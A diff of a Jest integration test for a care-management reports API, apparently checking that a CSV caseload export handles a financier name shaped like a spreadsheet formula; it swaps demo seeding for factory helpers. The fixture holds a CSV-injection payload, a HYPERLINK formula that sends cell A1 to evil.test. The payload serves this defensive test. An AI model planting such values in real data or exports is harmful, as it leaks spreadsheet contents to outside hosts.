@@ -1,8 +1,7 @@
-import { DEMO_ACCOUNTS, DEMO_PASSWORD, DemoContext, DemoModule, DemoSeedService } from '@nabij/demo/api';
 import { IdentityModule } from '@nabij/identity/api';
-import { createTestApp, TestApp } from '@nabij/platform/testing';
+import { makeAdmin, makeClient, makeWorker } from '@nabij/identity/api/testing';
+import { createTestApp, makeOrganisation, TestApp } from '@nabij/platform/testing';
 import { ReportsModule } from '../index';
-import { loadDemoContext } from './testing/report-test-data';
 
 jest.setTimeout(60_000);
 
@@ -11,30 +10,27 @@ const HOSTILE_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Gemeente")';
 
 describe('GET /api/reports/caseload?format=csv with a formula-shaped financier name', () => {
   let t: TestApp;
-  let ctx: DemoContext;
   let admin: string;
 
   beforeAll(async () => {
-    t = await createTestApp({ imports: [IdentityModule, DemoModule, ReportsModule] });
-    await t.app.get(DemoSeedService).seedOnce();
-    ctx = await loadDemoContext(t.dataSource);
-    const [financier] = await t.dataSource.query(`INSERT INTO financier (organisation_id, name) VALUES ($1, $2) RETURNING id`, [
-      ctx.organisationId,
-      HOSTILE_NAME,
-    ]);
+    t = await createTestApp({ imports: [IdentityModule, ReportsModule] });
+    const org = await makeOrganisation(t, { financiers: [HOSTILE_NAME] });
+    const client = await makeClient(t, { organisationId: org.organisationId, financierId: org.financierId });
+    const worker = await makeWorker(t, { organisationId: org.organisationId, teamId: org.teamId });
+    admin = (await makeAdmin(t, { organisationId: org.organisationId })).token;
+    // A closed case of 2019 with more hours than a year of contacts: written as rows, no service makes the past.
     const [c] = await t.dataSource.query(
       `INSERT INTO care_case (organisation_id, client_id, financier_id, team_id, assigned_worker_id, kind_of_work, problem_areas,
                               uses_online_dossier, opened_on, closed_on, close_reason)
        VALUES ($1, $2, $3, $4, $5, 'algemeen_mw', '{}', true, '2019-03-01', '2019-03-20', 'goal_reached') RETURNING id`,
-      [ctx.organisationId, ctx.accountIds.client, financier.id, ctx.teamIds['Team Leiden'], ctx.accountIds.worker],
+      [org.organisationId, client.id, org.financierId, org.teamId, worker.id],
     );
     // 43 full days and 435 minutes: 62,355 minutes, written as 1039:15 (an entry holds at most a day).
     await t.dataSource.query(
       `INSERT INTO time_entry (organisation_id, worker_id, case_id, contact_type, minutes, occurred_on, created_at, updated_at)
        SELECT $1, $2, $3, 'face_to_face', CASE WHEN n = 44 THEN 435 ELSE 1440 END, '2019-03-01', now(), now() FROM generate_series(1, 44) n`,
-      [ctx.organisationId, ctx.accountIds.worker, c.id],
+      [org.organisationId, worker.id, c.id],
     );
-    admin = await t.login(DEMO_ACCOUNTS.admin, DEMO_PASSWORD);
   });
   afterAll(() => t.close());
 
